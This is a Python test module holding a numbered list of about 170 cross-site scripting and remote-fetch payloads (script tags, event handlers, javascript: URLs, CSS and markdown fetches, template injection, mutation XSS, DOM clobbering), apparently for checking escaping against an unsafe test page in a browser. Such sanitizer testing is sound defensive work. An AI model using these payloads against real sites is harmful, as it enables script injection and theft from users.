"""Texts that somebody might write to have a page of ours run a script or fetch from elsewhere, each with its number.

A payload is told with the unsafe place that it is made for (`tests/unsafe_page.py` has them all). `@H` in it stands for
a script that tells its number, `@F` for an address at another host that has its number, `@A` for the same without the
scheme. Whether each of them does what it is meant to do, where nothing is escaped, is tried in the very browser.
"""

from __future__ import annotations

from dataclasses import dataclass

_WRITTEN: list[tuple[str, str]] = [
    # Elements that run, or fetch, as soon as they are there.
    ("document", "<script>@H</script>"),
    ("document", "<ScRiPt >@H</sCrIpT >"),
    ("document", "<script\n\ttype=text/javascript\n>@H</script\n>"),
    ("document", "<script src=@F></script>"),
    ("document", '<script type=module>import "@F"</script>'),
    ("document", "<script src='data:text/javascript,@H'></script>"),
    ("document", "<svg><script>@H</script></svg>"),
    ("document", "<svg><script href='data:text/javascript,@H'/></svg>"),
    ("document", "<svg><script>&#104;it(@N)</script></svg>"),
    # Attributes that run.
    ("inserted", "<img src=x onerror=@H>"),
    ("inserted", '<img src="x" onerror="@H">'),
    ("inserted", '<img/src="x"/onerror=@H>'),
    ("inserted", "<img\nsrc=x\nonerror\n=\n@H\n>"),
    ("inserted", "<img\x0csrc=x\x0conerror=@H>"),
    ("inserted", "<img src=x onerror=&#104;&#105;&#x74;(@N)>"),
    ("inserted", "<img src=x onerror=\\u0068it(@N)>"),
    ("inserted", "<img src=x onerror=alert(@N)>"),
    ("inserted", "<img src=x onerror=import('@F')>"),
    ("inserted", "<img src=x onerror=fetch('@F')>"),
    ("inserted", "<img src=x onerror=eval(atob('@64'))>"),
    ("inserted", "<img src=x onerror=with(window)hit(@N) alt='a quiet harbour'>"),
    ("inserted", "<svg onload=@H>"),
    ("inserted", "<svg/onload=@H//>"),
    ("inserted", "<svg><animate onbegin=@H attributeName=x dur=1s>"),
    ("inserted", "<svg><a><rect width=99 height=99 onclick=@H></a></svg>"),
    ("inserted", "<body onload=@H><p onclick=@H>Quarterly report</p>"),
    ("document", "<body onpageshow=@H>"),
    ("inserted", "<input autofocus onfocus=@H>"),
    ("inserted", "<details open ontoggle=@H>x</details>"),
    ("inserted", "<video><source onerror=@H></video>"),
    ("inserted", "<audio src=x onerror=@H></audio>"),
    ("inserted", "<p onmouseover=@H>Read this</p>"),
    ("inserted", "<object data=x onerror=@H></object>"),
    ("inserted", "<link rel=stylesheet href=x onerror=@H>"),
    ("inserted", "<x-report tabindex=1 onpointerdown=@H>x</x-report>"),
    # Out of an attribute, out of a script, out of an element that holds text alone.
    ("double", '"><img src=x onerror=@H>'),
    ("double", '" autofocus onfocus="@H'),
    ("double", '" onclick=@H x="'),
    ("single", "'><svg onload=@H>"),
    ("single", "' autofocus onfocus='@H"),
    ("bare", "x onclick=@H"),
    ("handler", "');@H;('"),
    ("script", '";@H;"'),
    ("script", "</script><script>@H</script>"),
    ("script", "</SCRIPT\t><svg onload=@H>"),
    ("script", "<!--<script>*/</script></script><img src=x onerror=@H>"),
    ("quoted", "';@H//"),
    ("backslash", '\\";@H//'),
    ("literal", "${@H}"),
    ("literal", "`+@H+`"),
    ("literal", "${(()=>{throw @H})()}"),
    ("json", "\\u003cimg src=x onerror=@H\\u003e"),
    ("json", "\\x3csvg onload=@H\\x3e"),
    ("title", "</title><img src=x onerror=@H>"),
    ("textarea", "</textarea><img src=x onerror=@H>"),
    ("style", "</style><img src=x onerror=@H>"),
    ("comment", "--><img src=x onerror=@H><!--"),
    ("comment", "--!><svg onload=@H>"),
    ("inserted", "<!--[if gte IE 4]><!--><img src=x onerror=@H><!--<![endif]-->"),
    ("inserted", "<![CDATA[><img src=x onerror=@H>]]>"),
    ("inserted", "<?xml version='1.0'?><img src=x onerror=@H>"),
    ("noscript", "</noscript><img src=x onerror=@H>"),
    # Addresses that run.
    ("href", "javascript:@H"),
    ("href", "JaVaScRiPt:@H"),
    ("href", "java\tscript:@H"),
    ("href", "\x01javascript:@H"),
    ("href", "javascript://example.org/%0A@H"),
    ("frame", "javascript:parent.@H"),
    ("frame", "data:text/html,<script>@H</script>"),
    ("frame", "data:text/html;base64,@64HTML"),
    ("go", "javascript:@H"),
    ("inserted", "<a href=javascript:@H>The whole report</a>"),
    ("inserted", "<a href='jav&#x09;ascript&colon;@H'>The whole report</a>"),
    ("inserted", "<svg><a href=javascript:@H><text y=20>x</text></a></svg>"),
    ("inserted", "<form action=javascript:@H><button>Go on</button></form>"),
    ("inserted", "<form><button formaction=javascript:@H>Go on</button></form>"),
    ("inserted", "<iframe src=javascript:parent.@H></iframe>"),
    ("inserted", "<iframe srcdoc='<script>@H</script>'></iframe>"),
    ("inserted", "<iframe srcdoc='&lt;img src=x onerror=&quot;@H&quot;&gt;'></iframe>"),
    ("inserted", "<object data='data:text/html,<script>@H</script>'></object>"),
    ("inserted", '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@H"/>\'>'),
    ("document", "<base href=javascript:/a/><a href=#>x</a><img src=x onerror=@H>"),
    # What fetches from another host.
    ("inserted", "<img src=@F>"),
    ("inserted", "<img src=@A>"),
    ("inserted", "<img src='\\\\@HOST\\@N'>"),
    ("inserted", "<img srcset='@F 1x'>"),
    ("inserted", "<picture><source srcset=@F><img></picture>"),
    ("inserted", "<input type=image src=@F>"),
    ("inserted", "<video poster=@F></video>"),
    ("inserted", "<video autoplay src=@F></video>"),
    ("inserted", "<svg><image href=@F width=9 height=9 /></svg>"),
    ("inserted", "<svg><filter id=g@N><feImage href=@F /></filter><rect width=9 height=9 filter=url(#g@N)></svg>"),
    ("inserted", "<iframe src=@F></iframe>"),
    ("inserted", "<object data=@F></object>"),
    ("inserted", "<link rel=stylesheet href=@F>"),
    ("inserted", "<link rel=preload as=image href=@F>"),
    ("inserted", "<link rel=prefetch href=@F>"),
    ("inserted", "<link rel=modulepreload href=@F>"),
    ("document", "<body background=@F>"),
    ("document", "<base href=http://@HOST/><img src=@N>"),
    ("document", "<meta http-equiv=refresh content='0;url=@F'>"),
    ("inserted", "<a href=@F>The whole report</a>"),
    ("inserted", "<a href=# ping=@F>The whole report</a>"),
    ("inserted", "<form action=@F><button>Go on</button></form>"),
    # Style sheets.
    ("inserted", "<style>@import '@F';</style>"),
    ("inserted", "<style>@import url(@F);</style>"),
    ("inserted", "<p style='background:url(@F)'>Read this</p>"),
    ("inserted", '<p style="background-image:url(&quot;@F&quot;)">Read this</p>'),
    ("inserted", "<style>p.p@N::after{content:url(@F)}</style><p class=p@N>Read this</p>"),
    ("inserted", "<style>@font-face{font-family:f@N;src:url(@F)}</style><p style=font-family:f@N>Read this</p>"),
    ("inserted", "<p style='b\\61 ckground:u\\72l(@F)'>Read this</p>"),
    ("rule", "red;background:url(@F)"),
    ("rule", "red}*{background:url(@F)"),
    ("inline", "red;background:url(@F)"),
    # Markdown, and HTML within it.
    ("markdown", "![chart](@F)"),
    ("markdown", '![chart](<@F> "Q3")'),
    ("markdown", "![chart][c]\n\n[c]: @F"),
    ("markdown", "[![chart](@F)](https://example.org)"),
    ("markdown", "[The whole report](javascript:@H)"),
    ("markdown", "[The whole report](<javascript:@H>)"),
    ("markdown", "[The whole report](java&#115;cript:@H)"),
    ("markdown", "[The whole report][r]\n\n[r]: javascript:@H"),
    ("markdown", "<javascript:@H>"),
    ("markdown", "<@F>"),
    ("markdown", "Revenue rose <img src=x onerror=@H> by 4%."),
    ("markdown", "<div>\n\n*Read* <svg onload=@H>\n\n</div>"),
    ("markdown", "- item\n\n  <img src=x onerror=@H>"),
    ("markdown", "| a |\n|---|\n| <img src=x onerror=@H> |"),
    ("markdown", "~~~\n~~~\n<img src=x onerror=@H>"),
    ("markdown", "\\![x](y) ![x](@F)"),
    # Templates, of the browser and of the server.
    ("mustache", "{{hit(@N)}}"),
    ("mustache", "{{{'<img src=x onerror=@H>'}}}"),
    ("mustache", "{{constructor.constructor('@H')()}}"),
    ("mustache", "{{#with value as |v|}}{{/with}}{{[].at.constructor('@H')()}}"),
    ("jinja", "{{ '<img src=x onerror=@H>' }}"),
    ("jinja", "{% set e = 'script' %}<{{ e }}>@H</{{ e }}>"),
    ("jinja", "{% if 1 %}<img src=@F>{% endif %}"),
    ("jinja", "{{ ['<im', 'g src=@F>'] | join }}"),
    ("jinja", "{# quiet #}<svg onload=hit({{ @N }})>"),
    # What is decoded, mended or folded once too often.
    ("unescaped", "&lt;img src=x onerror=@H&gt;"),
    ("unescaped", "&#60;svg onload=@H&#62;"),
    ("unescaped", "&amp;lt;img src=x onerror=@H&amp;gt;"),
    ("percent", "%3Cimg src=x onerror=@H%3E"),
    ("removed", "<scr<script>ipt>@H</scr</script>ipt>"),
    ("removed", "<img src=x one<script>rror=@H>"),
    ("unseen", "<im\u200bg src=x onerror=@H>"),
    ("unseen", "<\u2060svg on\u00adload=@H>"),
    ("unseen", "<img src=x \u202eonerror=@H>"),
    ("folded", "＜img src=x onerror=@H＞"),
    ("folded", "<ｉｍｇ src=x ｏｎｅｒｒｏｒ=@H>"),
    ("null", "<im\0g src=x on\0error=@H>"),
    ("mutated", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@H>"),
    ("mutated", "<math><mtext><table><mglyph><style></math><img src onerror=@H>"),
    ("mutated", "<template><img src=x onerror=@H></template><a href=javascript:@H>x</a>"),
    # Names that stand in the way of a script's own.
    ("clobbered", "<a id=settings href=@F>x</a>"),
    ("clobbered", "<form name=settings action=@F><input name=href value=@F></form>"),
    ("clobbered", "<object name=settings data=x></object><img name=settings src=@F>"),
    ("clobbered", "<embed name=settings><iframe name=settings srcdoc='<base href=@F>'></iframe>"),
]


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, whose effect is that `hit` is called with its number, or that `/number` is asked of another host."""

    number: int
    place: str
    """The unsafe place that it is made for."""
    text: str


def payloads(host: str) -> list[Payload]:
    """All of them; `host` is the other host that they ask, with its port."""
    return [Payload(number, place, _filled(text, number, host)) for number, (place, text) in enumerate(_WRITTEN, 1)]


def _filled(text: str, number: int, host: str) -> str:
    from base64 import b64encode

    script = f"hit({number})"
    values = {
        "@64HTML": b64encode(f"<script>{script}</script>".encode()).decode(),
        "@64": b64encode(script.encode()).decode(),
        "@HOST": host,
        "@H": script,
        "@F": f"http://{host}/{number}",
        "@A": f"//{host}/{number}",
        "@N": str(number),
    }
    for mark, value in values.items():
        text = text.replace(mark, value)
    return text
